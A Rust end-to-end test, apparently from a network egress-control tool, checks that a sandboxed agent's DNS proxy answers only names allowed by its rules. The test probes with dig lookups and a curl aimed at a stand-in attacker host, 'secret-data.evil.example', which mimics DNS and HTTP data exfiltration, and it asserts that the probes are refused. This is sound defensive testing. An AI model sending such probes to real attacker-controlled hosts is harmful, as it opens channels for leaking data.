//! The agent resolves the names of its rules and no others, and its queries stay in the pod.

use exeat_e2e::Case;

#[tokio::test]
async fn egress_dns_answers_only_names_of_rules() -> anyhow::Result<()> {
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        let known = agent.sh("dig +short api.your-company.com A").await?;
        anyhow::ensure!(
            known.stdout.starts_with("198.1"),
            "expected a synthetic address: {known:?}"
        );
        let unknown = agent.sh("dig secret-data.evil.example A").await?;
        anyhow::ensure!(unknown.stdout.contains("EDE: 15"), "expected the reason: {unknown:?}");
        agent.curl("https://secret-data.evil.example/").await?.expect_refusal("DefaultDeny")?;
        let text = agent.sh("dig secret-data.evil.example TXT").await?;
        anyhow::ensure!(text.stdout.contains("REFUSED"), "expected REFUSED: {text:?}");
        // Of a name that may be looked up, other types are nothing rather than an error.
        let mail = agent.sh("dig api.your-company.com MX").await?;
        anyhow::ensure!(
            mail.stdout.contains("NOERROR") && mail.stdout.contains("EDE: 15"),
            "{mail:?}"
        );
        // Another server's address is answered by the proxy all the same.
        let elsewhere = agent.sh("dig @203.0.113.66 secret-data.evil.example A").await?;
        anyhow::ensure!(elsewhere.stdout.contains("EDE: 15"), "expected the reason: {elsewhere:?}");
        case.expect_nothing_at(exeat_e2e::Host::EVIL).await
    })
    .await
}
